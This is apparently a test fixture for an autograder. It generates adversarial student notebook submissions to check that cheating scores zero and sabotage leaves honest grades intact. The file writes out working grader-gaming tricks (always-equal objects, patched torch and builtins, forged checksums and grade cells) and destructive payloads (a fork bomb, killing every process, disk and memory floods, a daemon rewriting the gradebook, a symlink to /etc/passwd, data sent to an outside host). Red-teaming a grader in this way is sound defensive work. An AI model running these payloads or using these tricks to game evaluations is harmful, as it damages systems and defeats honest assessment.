"""A hostile class: submissions that cheat or sabotage, each with the grade its honest work earns.

Every attack issue 11 found, written as a learner would (the learner is
assumed to have read the whole public repository). Two kinds:

* cheats on the *score*: fake equality, int and tensor subclasses,
  monkeypatching torch or builtins, IPython input transformers and cell hooks,
  swapping the old guard, cloning code objects, reloading or calling the
  engine's own reference, forging the probe's output, hard-coding the visible
  answers. They sit on blank work, so they must score 0 (copying the engine's
  source may instead earn its points *and* be flagged for review);
* attacks on the *grader* (run both in a cell of their own and inside the
  unsolved exercise's body, where the probe runs them): reading ``solutions/``, a classmate's submission or
  the gradebook, giving itself or taking from others points, rewriting the
  repository, killing kernels and the grader, detached processes, memory,
  process, disk and output floods, the network, symlinks, forged timestamps,
  forged graded cells and checksums. They sit on honest partial work (only
  ``partition_by_count`` solved), which must keep exactly its points.

:func:`build` writes them in the layout ``collect`` reads; each
:class:`Attack` says which test cells the submission may pass (``earns``), and
whether it must pass exactly those (``keeps``) or may instead be flagged.
"""

from __future__ import annotations

import copy
import inspect
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import nbformat

from .. import course_root
from ..workspace import Workspace
from .fakeclass import grade_id, solved

ASSIGNMENT = "02_partitioner"
HONEST = frozenset({"test_partition_by_count"})  # what the partial honest work passes


@dataclass(frozen=True)
class Attack:
    student: str
    description: str
    earns: frozenset[str]  # the test cells its honest work passes: the most it may score
    keeps: bool = True  # it must pass exactly ``earns`` (False: at most, e.g. when its run is sabotaged)
    codes: frozenset[str] = frozenset()  # problem codes its log line must contain
    flagged_instead: bool = False  # full marks allowed only with a FLAGGED code (copied engine source)
    held: bool = False  # its tampering is detected: it must be HELD (scored 0 until an instructor looks)
    assignment: str = ASSIGNMENT


def _cheats(repo: Path) -> list[tuple[Attack, dict[str, str]]]:
    """Cheats on blank work: (attack, {solution cell: new source}). They must score 0."""
    zero = frozenset()
    from gpipe_core.engine import partition

    engine = inspect.getsource(partition.balance_by_cost).replace("def balance_by_cost", "def partition_optimal")
    helpers = "".join(inspect.getsource(getattr(partition, n)) for n in dir(partition)
                      if n.startswith("_") and inspect.isfunction(getattr(partition, n))
                      and getattr(partition, n).__module__ == partition.__name__)
    return [
        (Attack("fake-equality", "returns an object equal to everything", zero),
         {"partition_by_count": "class Yes(list):\n    def __eq__(self, other):\n        return True\n"
          "    __hash__ = None\n\ndef partition_by_count(num_layers, K):\n    return Yes()\n"}),
        (Attack("int-subclass", "returns ints that equal everything", zero),
         {"partition_by_count": "class Liar(int):\n    def __eq__(self, other):\n        return True\n"
          "    __hash__ = int.__hash__\n\ndef partition_by_count(num_layers, K):\n    return [Liar(0)] * K\n"}),
        (Attack("tensor-subclass", "costs as a tensor subclass that equals everything", zero),
         {"measure_layer_costs": "import torch\nclass Eq(torch.Tensor):\n    def __eq__(self, other):\n"
          "        return True\n\ndef measure_layer_costs(model, sample, repeats=5):\n"
          "    return torch.zeros(len(model)).as_subclass(Eq)\n"}),
        (Attack("patch-torch", "monkeypatches torch.equal and assert_close at the top of a cell", zero),
         {"partition_optimal": "import torch\ntorch.equal = lambda *a, **k: True\n"
          "torch.testing.assert_close = lambda *a, **k: None\n"
          "def partition_optimal(costs, K):\n    raise NotImplementedError()\n"}),
        (Attack("patch-builtins", "replaces builtins so asserts and comparisons pass", zero),
         {"partition_by_count": "import builtins\nbuiltins.AssertionError = type('X', (Exception,), {})\n"
          "builtins.sorted = lambda x, **k: list(x)\ndef partition_by_count(num_layers, K):\n    return None\n"}),
        (Attack("input-transformer", "an IPython input transformer turns every later cell into pass", zero),
         {"partition_by_count": "get_ipython().input_transformers_cleanup.append(lambda lines: ['pass\\n'])\n"}),
        (Attack("cell-hooks", "pre/post_run_cell hooks that swallow every error", zero),
         {"partition_by_count": "ip = get_ipython()\n"
          "ip.events.register('post_run_cell', lambda result: setattr(result, 'error_in_exec', None))\n"
          "ip.set_custom_exc((BaseException,), lambda *a, **k: None)\n"}),
        (Attack("swap-guard", "replaces the old learner_only guard with a no-op", zero),
         {"partition_optimal": "import contextlib\ntry:\n    import gpipe_core.grading as g\n"
          "    g.learner_only = lambda *a, **k: contextlib.nullcontext()\nexcept ImportError:\n    pass\n"
          "from gpipe_core.partition import balance_by_cost as partition_optimal\n"}),
        (Attack("clone-code", "clones the engine's code object into its own function", zero),
         {"partition_optimal": "from gpipe_core.partition import balance_by_cost\n"
          "def partition_optimal(costs, K):\n    pass\npartition_optimal.__code__ = balance_by_cost.__code__\n"}),
        (Attack("reload-engine", "reloads gpipe_core to reach the reference, then calls it", zero),
         {"partition_optimal": "def partition_optimal(costs, K):\n    import importlib\n"
          "    import gpipe_core.partition as p\n    importlib.reload(p)\n    return p.balance_by_cost(costs, K)\n"}),
        (Attack("call-engine", "calls the engine's own partitioner", zero),
         {"partition_by_count": "def partition_by_count(num_layers, K):\n"
          "    from gpipe_core.partition import balance_by_count\n    return balance_by_count(num_layers, K)\n"}),
        (Attack("sys-modules", "loads the real engine from the repository through sys.modules", zero),
         {"partition_by_count": "def partition_by_count(num_layers, K):\n    import importlib.util, sys\n"
          f"    spec = importlib.util.spec_from_file_location('real', {str(repo / 'gpipe_core' / 'partition.py')!r})\n"
          "    mod = importlib.util.module_from_spec(spec)\n    sys.modules['real'] = mod\n"
          "    spec.loader.exec_module(mod)\n    return mod.balance_by_count(num_layers, K)\n"}),
        (Attack("forge-probe", "prints replies in the probe's format for every call", zero),
         {"partition_by_count": "def partition_by_count(num_layers, K):\n    import json\n"
          "    for i in range(500):\n        print(json.dumps({'i': i, 'ok': True, 'value': [1] * K}))\n"
          "    print(json.dumps({'done': True}), flush=True)\n    import os\n    os._exit(0)\n"}),
        (Attack("hard-coded", "returns the visible tests' answers and nothing else", zero),
         {"partition_by_count": "def partition_by_count(num_layers, K):\n"
          "    return {(10, 4): [3, 3, 2, 2], (8, 4): [2, 2, 2, 2], (5, 1): [5]}.get((num_layers, K), [1] * K)\n"}),
        (Attack("engine-copy", "pastes the engine's optimal partitioner as its own",
                frozenset({"test_partition_optimal"}), keeps=False, flagged_instead=True),
         {"partition_optimal": helpers + "\n" + engine}),
    ]


def _sabotage(repo: Path, instructor: Workspace) -> list[tuple[Attack, str]]:
    """Attacks on the grader, run in a new cell after the honest work: (attack, cell source)."""
    sub = instructor.submission("correct", ASSIGNMENT) / "partitioner.ipynb"
    db = instructor.gradebook
    grades = instructor.root.parent / "grades.csv"
    sql = ("import sqlite3\ncon = sqlite3.connect({db!r}, timeout=1)\n"
           "con.execute(\"UPDATE grade SET auto_score = {score}\")\ncon.commit()\n")
    return [
        (Attack("read-solutions", "prints the solutions notebook into its feedback", HONEST),
         f"print(open({str(repo / 'solutions' / ASSIGNMENT / 'partitioner.ipynb')!r}).read())\n"),
        (Attack("copy-classmate", "reads a classmate's submission", HONEST),
         f"print(open({str(sub)!r}).read())\n"),
        (Attack("extra-credit", "gives itself full marks in the gradebook", HONEST),
         sql.format(db=str(db), score="100")),
        (Attack("zero-classmates", "zeroes everyone in the gradebook", HONEST), sql.format(db=str(db), score="0")),
        (Attack("overwrite-classmate", "overwrites a classmate's submission before it is graded", HONEST),
         f"open({str(sub)!r}, 'w').write('{{}}')\n"),
        (Attack("edit-repo", "rewrites the solutions, the engine and the judge", HONEST),
         "".join(f"open({str(p)!r}, 'a').write('\\nraise SystemExit(1)\\n')\n" for p in (
             repo / "solutions" / ASSIGNMENT / "partitioner.ipynb", repo / "gpipe_core" / "partition.py",
             repo / "autograder" / "judge" / "__init__.py")) + f"open({str(repo / 'pwned.txt')!r}, 'w')\n"),
        (Attack("kill-everything", "kills every process it can see and its own process group", HONEST, keeps=False),
         "import os, signal\nfor p in os.listdir('/proc'):\n    if p.isdigit() and int(p) != os.getpid():\n"
         "        try:\n            os.kill(int(p), signal.SIGKILL)\n        except OSError:\n            pass\n"
         "os.killpg(0, signal.SIGKILL)\n"),
        (Attack("detached-daemon", "leaves a daemon that rewrites grades.csv and the gradebook later", HONEST),
         "import os, time\nif os.fork() == 0:\n    os.setsid()\n    if os.fork() == 0:\n        time.sleep(20)\n"
         f"        open({str(grades)!r}, 'w').write('pwned')\n" + "        " +
         sql.format(db=str(db), score="0").replace("\n", "\n        ").rstrip() + "\n        os._exit(0)\n"
         "    os._exit(0)\n"),
        (Attack("memory-tree", "three children holding 1.5 GB each", HONEST, keeps=False),
         "import subprocess, sys\nhog = 'b = b\"x\" * (1536 * 2**20); import time; time.sleep(5)'\n"
         "kids = [subprocess.Popen([sys.executable, '-c', hog]) for _ in range(3)]\n"
         "print([k.wait() for k in kids])\n"),
        (Attack("fork-bomb", "forks until it cannot", HONEST, keeps=False),
         "import os, time\nfor _ in range(100000):\n    try:\n        if os.fork() == 0:\n"
         "            time.sleep(60)\n            os._exit(0)\n    except OSError:\n        break\n"),
        (Attack("disk-flood", "writes until the disk is full", HONEST),
         "try:\n    for i in range(10000):\n        open(f'flood{i}', 'wb').write(bytes(2**24))\n"
         "except OSError as e:\n    print('stopped:', e)\n"),
        (Attack("output-flood", "prints 100 MB on one line", HONEST), "print('x' * 100_000_000)\n"),
        (Attack("network", "sends the notebook to a server and listens on a port", HONEST),
         "import socket\nfor host in (('1.1.1.1', 80), ('127.0.0.1', 22)):\n    try:\n"
         "        socket.create_connection(host, timeout=2).sendall(b'x')\n        print('reached', host)\n"
         "    except OSError as e:\n        print('unreachable', host, e)\n"),
    ]


def build(folder: Path, released: Path, assignment: str = ASSIGNMENT) -> list[Attack]:
    """Write the hostile class into ``folder``; returns what each submission may earn."""
    if assignment != ASSIGNMENT:
        raise ValueError(f"the hostile class attacks {ASSIGNMENT} (its cells are named in hostile.py)")
    repo, instructor = course_root(), Workspace.from_env()
    name = "partitioner.ipynb"
    stub = nbformat.read(released / assignment / name, as_version=4)
    correct = solved(assignment, "partitioner", released)
    honest = _with_cells(stub, {"partition_by_count": _source(correct, "partition_by_count")})
    attacks: list[Attack] = []

    def put(attack: Attack, nb: Any | None, file: str = name) -> None:
        target = folder / attack.student / assignment
        target.mkdir(parents=True, exist_ok=True)
        if nb is not None:
            nbformat.write(nb, target / file)
        attacks.append(attack)

    for attack, cells in _cheats(repo):
        put(attack, _with_cells(stub, cells))
    for attack, code in _sabotage(repo, instructor):
        put(attack, _insert(_with_cells(honest, {"partition_optimal": _in_body(code)}), code))
    put(Attack("symlink-solutions", "the notebook is a symlink to the solutions", frozenset(),
               codes=frozenset({"NOT_COLLECTED", "MISSING_NOTEBOOK"})), None)
    (folder / "symlink-solutions" / assignment / name).symlink_to(repo / "solutions" / assignment / name)
    put(Attack("symlink-passwd", "the notebook is a symlink to /etc/passwd", frozenset(),
               codes=frozenset({"NOT_COLLECTED", "MISSING_NOTEBOOK"})), None)
    (folder / "symlink-passwd" / assignment / name).symlink_to("/etc/passwd")
    put(Attack("forged-timestamp", "ships a timestamp.txt from long before the deadline", HONEST,
               codes=frozenset({"TIMESTAMP_IGNORED"})), honest)
    (folder / "forged-timestamp" / assignment / "timestamp.txt").write_text("2020-01-01 00:00:00.000000 UTC")
    bonus = copy.deepcopy(honest)
    bonus.cells.append(nbformat.v4.new_code_cell("assert True", metadata={"nbgrader": {
        "grade": True, "grade_id": "bonus", "points": 100, "locked": True, "solution": False,
        "schema_version": 3}}))
    put(Attack("forged-grade-cell", "adds a graded cell worth 100 points", HONEST,
               codes=frozenset({"UNKNOWN_CELL_DROPPED"})), bonus)
    put(Attack("forged-checksum", "empties the tests it fails and forges their checksums", HONEST,
               codes=frozenset({"LOCKED_CELL_EDITED"})), _forge_checksums(honest))
    return attacks


def _source(nb: Any, cell_id: str) -> str:
    return next(c.source for c in nb.cells if grade_id(c) == cell_id)


def _with_cells(nb: Any, sources: dict[str, str]) -> Any:
    nb = copy.deepcopy(nb)
    for cell in nb.cells:
        if grade_id(cell) in sources:
            cell.source = sources[grade_id(cell)]
    return nb


def _in_body(code: str) -> str:
    """``code`` run once inside the unsolved exercise, so the probe's children run it too (not only a
    notebook run, which grading no longer makes by default)."""
    body = "".join(f"        {line}\n" for line in code.splitlines())
    return ("_DONE = []\n\n\ndef partition_optimal(costs, K):\n    if not _DONE:\n        _DONE.append(1)\n"
            f"{body}    raise NotImplementedError()\n")


def _insert(nb: Any, code: str) -> Any:
    """``nb`` with a new code cell running ``code`` right after the first solution cell."""
    nb = copy.deepcopy(nb)
    first = next(i for i, c in enumerate(nb.cells) if c.metadata.get("nbgrader", {}).get("solution"))
    nb.cells.insert(first + 1, nbformat.v4.new_code_cell(code))
    return nb


def _forge_checksums(nb: Any) -> Any:
    from nbgrader.utils import compute_checksum

    nb = copy.deepcopy(nb)
    for cell in nb.cells:
        meta = cell.metadata.get("nbgrader", {})
        if meta.get("grade") and not meta.get("solution") and grade_id(cell) not in HONEST:
            cell.source = "pass  # nothing to see"
            meta["checksum"] = compute_checksum(cell)
    return nb
